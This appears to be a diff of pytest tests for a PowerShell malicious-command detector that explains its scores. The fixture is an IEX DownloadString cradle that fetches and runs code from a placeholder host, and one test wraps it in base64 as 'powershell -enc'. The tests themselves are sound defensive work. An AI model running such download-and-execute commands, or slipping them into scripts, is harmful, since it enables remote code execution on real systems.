@@ -3,7 +3,7 @@ import base64
 import pytest
 
 from wheeltapper.powershell import models
-from wheeltapper.powershell.explain import explain, saliency, verdict
+from wheeltapper.powershell.explain import explain, verdict, weights
 
 LINE = "$d = Get-Date; IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')"
 
@@ -44,9 +44,29 @@ def test_verdicts_follow_the_thresholds():
     ]  # fmt: skip
 
 
-def test_saliency_is_where_the_score_is(model):
-    heat = saliency(LINE, model, 1024)
-    assert heat.shape == (1024,)
-    assert (heat >= 0).all()
-    assert heat[: len(LINE)].any()
-    assert not heat[len(LINE) + 8 :].any()
+def test_weights_are_where_the_score_is(model):
+    ((text, weight),) = weights(explain(LINE, model), model, 1024)
+    assert text == LINE
+    assert weight.shape == (1024,)
+    assert weight[: len(LINE)].max() > 0
+    assert not weight[len(LINE) :].any()
+
+
+def test_of_a_wrapped_command_both_texts_have_weights():
+    packed = base64.b64encode(LINE.encode("utf-16-le")).decode()
+    words = models.load("words")
+    (outer, outside), (inner, inside) = weights(
+        explain(f"powershell -enc {packed}", words), words, 1024
+    )
+    assert outer.endswith(packed)
+    assert inner == LINE
+    assert outside.any()
+    assert inside[LINE.index("DownloadString")] > 0
+
+
+def test_an_administrators_script_is_explained_too():
+    script = "Import-Module ActiveDirectory\nGet-ADUser -Filter * | Export-Csv D:\\users.csv"
+    found = explain(script, models.load())
+    assert found.verdict == "ordinary"
+    assert any(span.weight < 0 for span in found.spans)
+    assert all(0.2 <= near.likeness <= 1 for near in found.nearest)
